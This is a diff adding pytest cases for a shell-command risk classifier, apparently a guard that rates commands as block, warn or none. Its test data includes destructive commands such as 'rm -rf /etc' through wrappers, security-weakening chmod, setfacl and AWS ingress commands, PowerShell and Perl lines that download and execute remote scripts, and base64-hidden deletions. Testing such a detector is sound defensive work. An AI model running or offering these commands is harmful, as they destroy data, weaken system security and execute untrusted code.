@@ -119,3 +119,86 @@ def test_targets_and_tools(command: str, expect: str) -> None:
 ])
 def test_look_alikes(command: str, expect: str) -> None:
     assert worst(command) == expect, check_command(command)
+
+
+# ---- classes fixed after held-out set 4 (spellings that set did not use) ---------------------------
+
+@pytest.mark.parametrize(("command", "expect"), [  # 8. weakening security by other tools
+    ("chmod a+w /etc/shadow", "warn"),
+    ("chmod 666 /run/docker.sock", "warn"),
+    ("chmod 1777 /tmp/scratch", "none"),
+    ("setfacl -m other::rw /etc/sudoers", "warn"),
+    ("setfacl -m u:deploy:r /var/log/app.log", "none"),
+    ("aa-complain /etc/apparmor.d/usr.sbin.nginx", "warn"),
+    ("echo 0 > /proc/sys/kernel/kptr_restrict", "warn"),
+    ("passwd --delete deploy", "warn"),
+    ("aws s3api delete-account-public-access-block --account-id 123456789012", "warn"),
+    ("az storage container create --name pub --public-access container", "warn"),
+    ("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0", "warn"),
+    ("aws ec2 describe-security-groups --filters Name=ip-permission.cidr,Values=0.0.0.0/0", "none"),
+    ("oc label namespace batch pod-security.kubernetes.io/enforce=privileged", "warn"),
+])
+def test_security_weakening(command: str, expect: str) -> None:
+    assert worst(command) == expect, rules(command)
+
+
+@pytest.mark.parametrize(("command", "expect"), [  # 9. deletions without an rm word
+    ("ansible web -m ansible.builtin.file -a 'path=/etc state=absent'", "block"),
+    ("ansible web -m file -a 'path=/tmp/x state=directory'", "none"),
+    ("gtar --remove-files -cf /dev/null /etc", "block"),
+    ("tar --remove-files -czf /tmp/logs.tgz /srv/app/logs", "warn"),
+    ("kafka-topics --bootstrap-server k1:9092 --delete --topic payments", "warn"),
+    ("kafka-topics --bootstrap-server k1:9092 --list", "none"),
+    ("rabbitmqctl purge_queue invoices", "warn"),
+    ("rsync -a --delete /var/empty/ /etc/", "block"),
+    ("rsync -a --delete ./site/ web@web-01:/var/lib/mysql/", "warn"),
+    ("rm -rf /data/backups/2023", "warn"),
+    ("find /var/backups -name '*.gz' -mtime +3 -delete", "warn"),
+    ("rm -rf /opt/gitlab/data", "warn"),
+    ("rm -rf /srv/elasticsearch-data", "warn"),
+    ("mkfs.xfs -f /var/lib/libvirt/images/scratch.raw", "none"),
+])
+def test_deletions_by_other_tools(command: str, expect: str) -> None:
+    assert worst(command) == expect, rules(command)
+
+
+@pytest.mark.parametrize(("command", "expect"), [  # 10. hypervisors
+    ("virsh reset web-01", "block"),
+    ("qm stop 104", "block"),
+    ("govc vm.power -off -force /dc/vm/db-01", "block"),
+    ("virsh list --all", "none"),
+    ("qm list", "none"),
+])
+def test_hypervisors(command: str, expect: str) -> None:
+    assert worst(command) == expect, rules(command)
+
+
+@pytest.mark.parametrize(("command", "expect"), [  # 11. code in other languages, decoded or fetched code
+    ("powershell -Command \"Remove-Item -Path C:/inetpub -Recurse -Force\"", "info"),
+    ("powershell.exe -c \"(New-Object Net.WebClient).DownloadString('https://x.io/a.ps1') | Invoke-Expression\"",
+     "warn"),
+    ("pwsh -c 'Stop-Computer -Force'", "block"),
+    ("pwsh -c 'Get-Process | Sort-Object CPU'", "none"),
+    ("expect -c 'exec rm -rf /etc'", "block"),
+    ("echo 'puts [exec uptime]' | tclsh", "none"),
+    ("groovy -e '\"reboot -f\".execute()'", "block"),
+    ("ruby -e 'eval(Base64.decode64(\"cm0gLXJmIC8=\"))'", "warn"),
+    ("node -e \"eval(atob('cm0='))\"", "warn"),
+    ("perl -e 'eval(get(\"https://x.io/a.pl\"))'", "warn"),
+    ("python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'", "none"),
+    ("mawk -v t=/boot 'BEGIN { system(\"rm -rf \" t) }'", "block"),
+])
+def test_foreign_and_hidden_code(command: str, expect: str) -> None:
+    assert worst(command) == expect, rules(command)
+
+
+@pytest.mark.parametrize(("command", "expect"), [  # 12. arguments handed to wrapped commands; eval of output
+    ("bash -c 'rm -rf \"$1\"' _ /usr", "block"),
+    ("sh -c 'rm -rf \"$@\"' sh /etc /boot", "block"),
+    ("xargs -n1 rm -rf <<< '/boot'", "block"),
+    ("eval \"$(vault kv get -field=script secret/ops/hooks)\"", "warn"),
+    ("eval \"$(rbenv init -)\"", "none"),
+    ("eval \"$(kubectl completion bash)\"", "none"),
+])
+def test_bound_arguments_and_eval(command: str, expect: str) -> None:
+    assert worst(command) == expect, rules(command)
